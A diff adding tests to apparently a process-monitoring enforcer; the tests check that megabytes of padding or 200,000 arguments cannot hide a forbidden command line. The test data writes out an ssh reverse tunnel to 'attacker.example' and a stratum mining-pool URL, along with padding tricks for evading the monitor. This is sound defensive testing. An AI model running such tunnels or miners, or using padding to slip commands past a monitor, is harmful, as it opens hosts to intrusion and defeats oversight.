@@ -9,6 +9,7 @@ and multi-megabyte command lines re-exec'd in a loop to swell the monitor.
 from __future__ import annotations
 
 import os
+import resource
 import shutil
 import signal
 import subprocess
@@ -100,6 +101,34 @@ def test_invalid_bytes_and_padding_do_not_hide_a_forbidden_command_line(
         assert killed(p), f"attempt {attempt} of 10 ran to its end"
         v = enforcing.wait_verdict(rule=rule, pid=p.pid)
         assert v["outcome"] == "killed"
+
+
+def unlimited_stack() -> None:
+    """Lets exec take up to the kernel's 6 MiB of argv (with an 8 MiB stack limit: 2 MiB)."""
+    resource.setrlimit(resource.RLIMIT_STACK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+
+
+@pytest.mark.parametrize("name,args,rule", [
+    # 5.9 MB before the forward: past the probes, past what is kept, inside what is read
+    ("ssh", [*["-o", "SendEnv=" + "A" * 130_000] * 45, "-R", "9000:localhost:22",
+             "attacker.example"], "ssh-reverse-or-dynamic-forward"),
+    # 200,000 arguments before it: past what is split and parsed argument by argument
+    ("ssh", [*["-oSendEnv=A"] * 200_000, "-NR", "9000:localhost:22", "attacker.example"],
+     "ssh-reverse-or-dynamic-forward"),
+    ("worker", [*[f"--x={INVALID}" + "A" * 130_000] * 45, "stratum+tcp://pool.example:3333"],
+     "no-stratum-urls"),
+], ids=["ssh-5.9MB", "ssh-200k-args", "stratum-5.9MB"])
+def test_megabytes_of_padding_do_not_hide_a_forbidden_command_line(
+        enforcing: Running, shared_dir: Path, name: str, args: list[str], rule: str) -> None:
+    prog = lingering(shared_dir, name)
+    for attempt in range(1, 6):
+        p = agent_exec(unprivileged([str(prog), *args]), agent=AGENT, socket=SOCK,
+                       preexec_fn=unlimited_stack)
+        assert killed(p), f"attempt {attempt} of 5 ran to its end"
+        v = enforcing.wait_verdict(rule=rule, pid=p.pid)
+        logged = v["argv"]  # judged whole, logged clipped
+        assert v["outcome"] == "killed" and isinstance(logged, list)
+        assert sum(len(a) + 1 for a in logged) < 5000 and logged[-1] == args[-1]
 
 
 # --- memory --------------------------------------------------------------------------------
